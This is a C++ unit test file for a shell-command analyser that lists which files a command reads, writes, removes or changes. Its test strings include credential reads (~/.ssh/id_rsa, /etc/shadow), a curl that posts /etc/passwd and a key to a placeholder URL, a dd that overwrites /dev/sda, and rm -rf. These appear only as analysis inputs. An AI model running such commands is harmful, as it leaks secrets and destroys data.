#include "shell/file_uses.h"

#include <gtest/gtest.h>

#include "shell/analysis_testing.h"

namespace ringwall::shell {
namespace {

// r for read, w for write, - for remove, c for change; ? before a guess.
std::string files(std::string_view command) {
  std::string out;
  for (const Act& act : analyse(command, around()).acts) {
    for (const FileUse& use : files_of(act)) {
      out += out.empty() ? "" : " ";
      out += use.certain ? "" : "?";
      out += "rw-c"[static_cast<size_t>(use.kind)];
      out += ":" + shown_word(use.path);
    }
  }
  return out;
}

TEST(FileUses, ReadersAndWriters) {
  EXPECT_EQ(files("cat ~/.ssh/id_rsa b"), "r:/home/me/.ssh/id_rsa r:b");
  EXPECT_EQ(files("head -n 5 a; tail -5 b"), "r:a r:b");
  EXPECT_EQ(files("grep -r needle src; grep -e x -f list y"), "r:src r:list r:y");
  EXPECT_EQ(files("echo x | tee -a a b; touch c; mkdir -m 700 d"), "w:a w:b w:c w:d");
  EXPECT_EQ(files("sort -o out in; base64 -w0 key"), "w:out r:in r:key");
}

TEST(FileUses, RemovalAndChange) {
  EXPECT_EQ(files("rm -rf -- a -b"), "-:a -:-b");
  EXPECT_EQ(files("rm a -f b"), "-:a -:b");
  EXPECT_EQ(files("chmod -R 777 a b; chown me:me c"), "c:a c:b c:c");
  EXPECT_EQ(files("sed -i s/a/b/ f; sed s/a/b/ g; sed -i.bak -e s/a/b/ h"), "c:f r:g c:h");
  EXPECT_EQ(files("find a b -name x -delete; find -type f"), "-:a -:b r:.");
}

TEST(FileUses, CopiesAndMoves) {
  EXPECT_EQ(files("cp a b c; mv d e; ln -s x y"), "r:a r:b w:c -:d w:e r:x w:y");
  EXPECT_EQ(files("cp -t dir a b; mv --target-directory=d x"), "w:dir r:a r:b w:d -:x");
  EXPECT_EQ(files("scp -i key a host:/b; rsync -a src/ host:dst"), "r:key r:a r:src/");
  EXPECT_EQ(files("dd if=/dev/zero of=/dev/sda bs=1M"), "r:/dev/zero w:/dev/sda");
}

TEST(FileUses, Archives) {
  EXPECT_EQ(files("tar xzf a.tgz -C /x; tar -cf b.tar c d"), "r:a.tgz w:/x w:b.tar r:c r:d");
  EXPECT_EQ(files("zip -r a.zip b c; unzip a.zip -d out"), "w:a.zip r:b r:c w:out r:a.zip");
}

TEST(FileUses, WhatIsSent) {
  EXPECT_EQ(files("curl -d @/etc/passwd -F f=@key -T up -o out http://x"),
            "r:/etc/passwd r:key r:up w:out");
  EXPECT_EQ(files("curl file:///etc/shadow; wget --post-file=k -O o u"), "r:/etc/shadow r:k w:o");
}

TEST(FileUses, Redirections) {
  EXPECT_EQ(files("a < in > out 2>> log"), "r:in w:out w:log");
  EXPECT_EQ(files("> ~/.bashrc"), "w:/home/me/.bashrc");
}

TEST(FileUses, ProgramsNobodyKnowsMayReadWhatLooksLikeAPath) {
  EXPECT_EQ(files("frob --in=/etc/passwd ./x word http://a/b"), "?r:/etc/passwd ?r:./x");
}

TEST(FileUses, ElsewhereOnlyRedirectionsAreHere) {
  EXPECT_EQ(files("ssh host cat /etc/shadow > here"), "w:here");
}

TEST(FileUses, Git) {
  EXPECT_EQ(files("git -C x add a; git rm b; git checkout -- c; git checkout main; git clean -fd"),
            "r:a -:b w:c -:.");
}

TEST(FileUses, Scripts) {
  EXPECT_EQ(files("python3 x.py arg; bash -x y.sh; source z; python3 -c 'x' y"),
            "r:x.py r:y.sh r:z");
}

}  // namespace
}  // namespace ringwall::shell
